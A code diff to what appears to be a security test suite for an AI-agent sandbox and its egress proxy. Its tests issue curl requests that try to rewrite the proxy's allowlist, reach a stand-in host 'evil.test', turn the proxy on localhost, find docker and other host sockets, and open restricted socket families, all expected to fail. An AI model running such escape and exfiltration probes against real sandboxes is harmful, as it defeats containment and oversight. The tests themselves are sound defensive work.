@@ -49,33 +49,35 @@ def test_a9_allowlist_tells_names_and_no_value(bottle: RunningBottle, token: str
     assert token not in text
 
 
-@pytest.mark.parametrize("method", ["POST", "PUT", "PATCH", "DELETE"])
-@pytest.mark.parametrize("path", ["/allowlist", "/routes", "/reload", "/shutdown", "/config", "/"])
-def test_a9_nothing_about_the_sidecar_can_be_changed(
-    bottle: RunningBottle, world: World, method: str, path: str
-) -> None:
+def test_a9_nothing_about_the_sidecar_can_be_changed(bottle: RunningBottle, world: World) -> None:
     marker = new_marker("a9")
     body = json.dumps({"routes": [{"host": f"{marker}.evil.test"}]})
-    script = (
-        f"curl -sS -m 5 -o /dev/null -w '%{{http_code}}' -X {method} -d '{body}' http://_egress.local{path}"
-    )
-    assert bottle.sh(script).out[0] == "4"
+    tries = [
+        f"curl -sS -m 5 -o /dev/null -w '%{{http_code}}\\n' -X {method} -d '{body}' http://_egress.local{path}"
+        for method in ("POST", "PUT", "PATCH", "DELETE")
+        for path in ("/allowlist", "/routes", "/reload", "/shutdown", "/config", "/")
+    ]
+    answers = bottle.sh("\n".join(tries), timeout=60).out.split()
+    assert [answer[0] for answer in answers] == ["4"] * len(tries)
     bottle.sh(f"curl -sS -m 5 https://{marker}.evil.test/")
     assert world.reached(marker) == []
     assert [line["reason"] for line in bottle.denied(f"{marker}.evil.test")] == ["host_not_allowed"]
 
 
-@pytest.mark.parametrize(
-    "host", ["mitm.it", "localhost", "127.0.0.1", "127.0.0.1:9099", "[::1]", "_egress.local.evil.test"]
-)
-def test_a9_the_proxy_cannot_be_turned_on_itself_or_the_host(
-    bottle: RunningBottle, world: World, host: str
-) -> None:
-    marker = new_marker("a9")
-    answer = bottle.sh(f"curl -sS -g -m 5 --noproxy '' -x $http_proxy http://{host}/{marker}")
-    assert answer.json()["error"] == "bot_bottle_denied"
-    assert world.reached(marker) == []
-    assert bottle.denied(marker)
+def test_a9_the_proxy_cannot_be_turned_on_itself_or_the_host(bottle: RunningBottle, world: World) -> None:
+    hosts = ("mitm.it", "localhost", "127.0.0.1", "127.0.0.1:9099", "[::1]", "_egress.local.evil.test")
+    markers = {host: new_marker("a9") for host in hosts}
+    asked = bottle.sh(
+        "\n".join(
+            f"curl -sS -g -m 5 --noproxy '' -x $http_proxy http://{host}/{marker} | tr -d '\\n'; echo"
+            for host, marker in markers.items()
+        )
+    )
+    answers = [json.loads(line) for line in asked.out.splitlines()]
+    assert [answer["error"] for answer in answers] == ["bot_bottle_denied"] * len(hosts)
+    for host, marker in markers.items():
+        assert world.reached(marker) == [], host
+        assert bottle.denied(marker), host
 
 
 def test_a9_the_operators_control_socket_is_out_of_reach(bottle: RunningBottle) -> None:
@@ -116,13 +118,13 @@ def test_a10_no_unix_socket_of_the_host(bottle: RunningBottle) -> None:
     assert [line.split()[7] for line in listed if len(line.split()) > 7] == []
 
 
-@pytest.mark.parametrize(
-    "path",
-    ["/var/run/docker.sock", "/run/docker.sock", "/run/containerd", "/run/user", "/run/dbus", "/run/systemd",
-     "/run/podman", "/tmp/.X11-unix", "/run/snapd.socket", "/var/run/nscd"],
-)  # fmt: skip
-def test_a10_sockets_with_power_are_not_there(bottle: RunningBottle, path: str) -> None:
-    assert bottle.sh(f"test ! -e {path}").returncode == 0
+def test_a10_sockets_with_power_are_not_there(bottle: RunningBottle) -> None:
+    paths = (
+        "/var/run/docker.sock", "/run/docker.sock", "/run/containerd", "/run/user", "/run/dbus",
+        "/run/systemd", "/run/podman", "/tmp/.X11-unix", "/run/snapd.socket", "/var/run/nscd",
+    )  # fmt: skip
+    script = f"for path in {' '.join(paths)} /etc/passwd; do test ! -e $path || echo $path; done"
+    assert bottle.sh(script).out.split() == ["/etc/passwd"]
 
 
 def test_a10_no_variable_points_at_the_host(lab: Lab, fresh: list[RunningBottle]) -> None:
@@ -159,24 +161,25 @@ def test_a10_no_descriptor_is_inherited(lab: Lab) -> None:
     assert str(secret) not in result.out
 
 
-@pytest.mark.parametrize(
-    ("family", "kind"),
-    [("AF_VSOCK", 1), ("AF_PACKET", 3), ("AF_ALG", 5), ("AF_KEY", 3), ("AF_BLUETOOTH", 3), ("AF_RDS", 5),
-     ("AF_CAN", 3), ("AF_XDP", 3)],
-)  # fmt: skip
-def test_a11_other_socket_families_are_refused(bottle: RunningBottle, family: str, kind: int) -> None:
-    number = {"AF_RDS": 21, "AF_XDP": 44, "AF_KEY": 15, "AF_VSOCK": 40, "AF_ALG": 38, "AF_BLUETOOTH": 31}.get(
-        family
-    )
-    code = f"""
-import socket, errno
-try:
-    socket.socket({number or f"socket.{family}"}, {kind}, 0)
-    print("open")
-except OSError as error:
-    print(errno.errorcode[error.errno])
+def test_a11_other_socket_families_are_refused(bottle: RunningBottle) -> None:
+    families = {
+        "AF_VSOCK": (40, 1), "AF_PACKET": (17, 3), "AF_ALG": (38, 5), "AF_KEY": (15, 3),
+        "AF_BLUETOOTH": (31, 3), "AF_RDS": (21, 5), "AF_CAN": (29, 3), "AF_XDP": (44, 3),
+    }  # fmt: skip
+    code = """
+found = {}
+for name, (family, kind) in families.items():
+    try:
+        socket.socket(family, kind, 0)
+        found[name] = "open"
+    except OSError as error:
+        found[name] = errno.errorcode[error.errno]
+tell(**found)
 """
-    assert bottle.py(code).out.strip() in {"EPERM", "EACCES", "EAFNOSUPPORT"}
+    found = inside.run(bottle, code, families=families)
+    refused = {"EPERM", "EACCES", "EAFNOSUPPORT"}
+    assert {name: told for name, told in found.items() if told not in refused} == {}
+    assert found.keys() == families.keys()
 
 
 def test_a11_inet_and_unix_sockets_still_work(bottle: RunningBottle) -> None:
